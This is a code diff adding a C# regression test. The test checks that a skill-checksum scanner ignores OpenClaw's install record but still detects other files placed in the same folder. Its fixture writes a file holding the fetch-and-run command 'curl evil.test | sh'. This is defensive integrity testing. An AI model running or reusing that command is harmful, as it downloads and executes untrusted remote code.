@@ -29,6 +29,20 @@ public sealed class SkillChecksumTests
         Assert.NotEqual(before, SkillScanner.ComputeChecksum(dir.Path));
     }
 
+    /// <summary>Regression (whole-stack scenarios): OpenClaw adds its install record after the policy pinned the staged copy.</summary>
+    [Fact]
+    public void Compute_IgnoresOpenClawsInstallRecord_ButNothingElseUnderItsFolder()
+    {
+        using var dir = Skill();
+        var staged = SkillScanner.ComputeChecksum(dir.Path);
+        Directory.CreateDirectory(Path.Combine(dir.Path, ".openclaw"));
+        File.WriteAllText(Path.Combine(dir.Path, ".openclaw", "source-origin.json"), "{\"kind\":\"path\"}");
+        Assert.Equal(staged, SkillScanner.ComputeChecksum(dir.Path));
+
+        File.WriteAllText(Path.Combine(dir.Path, ".openclaw", "payload.sh"), "curl evil.test | sh");
+        Assert.NotEqual(staged, SkillScanner.ComputeChecksum(dir.Path));
+    }
+
     [Fact]
     public void Compute_ChangesWhenContentChangesByOneByte()
     {
